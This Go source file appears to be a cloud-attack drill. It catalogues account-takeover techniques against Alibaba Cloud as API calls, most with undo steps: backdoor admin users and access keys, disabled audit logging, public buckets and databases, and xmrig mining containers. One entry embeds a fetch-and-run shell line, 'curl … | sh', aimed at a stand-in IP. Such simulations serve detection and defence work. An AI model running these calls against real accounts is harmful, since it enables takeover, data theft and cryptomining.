package drill

// tricks are what thieves do, by what became known of real thefts.
func tricks() []trick {
	miner, data, stay, model := "miner", "data", "persist", "llm"
	admin := `{"Version":"1","Statement":[{"Effect":"Allow","Action":["*"],"Resource":["*"]}]}`
	return []trick{
		{"a new administrator", []string{stay, miner, model}, newAdministrator},
		{"a key of another user", []string{stay, data}, secondKey},
		simple("no more records", []string{stay, data, miner, model}, "Actiontrail", "StopLogging", []string{"Name", "audit"}, "StartLogging", same("Name", "audit")),
		simple("another bucket for the records", []string{data}, "Actiontrail", "UpdateTrail", []string{"Name", "audit", "OssBucketName", "elsewhere"}, "UpdateTrail", same("Name", "audit", "OssBucketName", "shop-audit")),
		simple("a password", []string{stay}, "Ram", "CreateLoginProfile", []string{"UserName", "ci", "Password", "Xy7!kdow82Lq"}, "DeleteLoginProfile", same("UserName", "ci")),
		simple("more rights for a user", []string{stay}, "Ram", "AttachPolicyToUser", []string{"UserName", "backup", "PolicyName", "AdministratorAccess", "PolicyType", "System"}, "DetachPolicyFromUser", same("UserName", "backup", "PolicyName", "AdministratorAccess", "PolicyType", "System")),
		simple("more rights for a role", []string{stay, data}, "Ram", "AttachPolicyToRole", []string{"RoleName", "web", "PolicyName", "AdministratorAccess", "PolicyType", "System"}, "DetachPolicyFromRole", same("RoleName", "web", "PolicyName", "AdministratorAccess", "PolicyType", "System")),
		simple("a policy that says something else now", []string{stay}, "Ram", "CreatePolicyVersion", []string{"PolicyName", "deploy", "PolicyDocument", admin, "SetAsDefault", "true"}, "", nil),
		simple("a role that trusts a stranger", []string{stay, data}, "Ram", "CreateRole", []string{"RoleName", "support", "AssumeRolePolicyDocument", trust(stranger)}, "DeleteRole", same("RoleName", "support")),
		simple("a stranger in an old role", []string{stay}, "Ram", "UpdateRole", []string{"RoleName", "web", "NewAssumeRolePolicyDocument", trust(stranger)}, "", nil),
		simple("an identity provider", []string{stay}, "Ims", "CreateOIDCProvider", []string{"OIDCProviderName", "actions", "IssuerUrl", "https://token.example.com", "ClientIds", "x"}, "DeleteOIDCProvider", same("OIDCProviderName", "actions")),
		simple("a credential of one service", []string{stay, model}, "Ims", "CreateServiceCredential", []string{"UserPrincipalName", "ci@{domain}", "ServiceName", "bailian"}, "", nil),
		simple("an open port", []string{miner, data}, "Ecs", "AuthorizeSecurityGroup", []string{"RegionId", home, "SecurityGroupId", "sg-web", "IpProtocol", "tcp", "PortRange", "3389/3389", "SourceCidrIp", "0.0.0.0/0", "Policy", "accept", "Priority", "1"},
			"RevokeSecurityGroup", same("RegionId", home, "SecurityGroupId", "sg-web", "IpProtocol", "tcp", "PortRange", "3389/3389", "SourceCidrIp", "0.0.0.0/0", "Policy", "accept", "Priority", "1")),
		simple("instances that mine", []string{miner}, "Ecs", "RunInstances", []string{"RegionId", away, "InstanceType", "ecs.gn7i-c32g1.8xlarge", "Amount", "8", "InstanceName", "worker"}, "", nil),
		simple("what starts instances", []string{miner}, "Ecs", "CreateAutoProvisioningGroup", []string{"RegionId", away, "AutoProvisioningGroupName", "fill", "TotalTargetCapacity", "20"}, "", nil),
		simple("containers that mine", []string{miner, model}, "Eci", "CreateContainerGroup", []string{"RegionId", "cn-beijing", "ContainerGroupName", "proxy", "Container.1.Image", "xmrig/xmrig"}, "DeleteContainerGroup", func(a map[string]any) []string {
			return []string{"RegionId", "cn-beijing", "ContainerGroupId", text(a, "ContainerGroupId")}
		}),
		simple("a command in an instance", []string{miner, data}, "Ecs", "RunCommand", []string{"RegionId", home, "InstanceId.1", "i-web-1", "CommandContent", "curl -s http://198.51.100.9/x | sh", "Type", "RunShellScript"}, "", nil),
		simple("a changed instance", []string{miner}, "Ecs", "ModifyInstanceAttribute", []string{"RegionId", home, "InstanceId", "i-web-2", "UserData", "IyEvYmluL3No"}, "", nil),
		simple("a key pair", []string{miner, stay}, "Ecs", "ImportKeyPair", []string{"RegionId", away, "KeyPairName", "ops", "PublicKeyBody", "ssh-ed25519 AAAA"}, "DeleteKeyPairs", same("RegionId", away, "KeyPairNames", `["ops"]`)),
		simple("a shared image", []string{data}, "Ecs", "ModifyImageSharePermission", []string{"RegionId", home, "ImageId", "m-web", "AddAccount.1", stranger}, "", nil),
		simple("a deleted backup", []string{data}, "Ecs", "DeleteSnapshot", []string{"RegionId", home, "SnapshotId", "s-web-1"}, "", nil),
		simple("a public bucket", []string{data}, "Oss", "PutBucketAcl", []string{"RegionId", home, "bucketName", "shop-backups", "acl", "public-read"}, "PutBucketAcl", same("RegionId", home, "bucketName", "shop-backups", "acl", "private")),
		simple("an open database", []string{data}, "Rds", "ModifySecurityIps", []string{"RegionId", home, "DBInstanceId", "rm-shop", "SecurityIps", "0.0.0.0/0"}, "ModifySecurityIps", same("RegionId", home, "DBInstanceId", "rm-shop", "SecurityIps", "10.0.0.0/8")),
		simple("a user of the database", []string{data}, "Rds", "CreateAccount", []string{"RegionId", home, "DBInstanceId", "rm-shop", "AccountName", "report", "AccountType", "Super"}, "", nil),
	}
}

// newAdministrator makes a user and goes on with its key.
func newAdministrator(t *thief) (func() error, error) {
	name := []string{"aliyun-support", "ops-bot", "backup-sync"}[t.random.IntN(3)]
	for _, call := range [][]string{
		{"CreateUser", "UserName", name}, {"CreateAccessKey", "UserName", name},
		{"AttachPolicyToUser", "UserName", name, "PolicyName", "AdministratorAccess", "PolicyType", "System"},
	} {
		if _, err := t.act("Ram", call[0], call[1:]...); err != nil {
			return nil, err
		}
	}
	t.become(name)
	return nil, nil
}

// secondKey makes a key of a user that was there, and goes on with it if its user may do anything.
func secondKey(t *thief) (func() error, error) {
	if _, err := t.act("Ram", "CreateAccessKey", "UserName", "anna"); err != nil {
		return nil, err
	}
	t.become("anna")
	return nil, nil
}
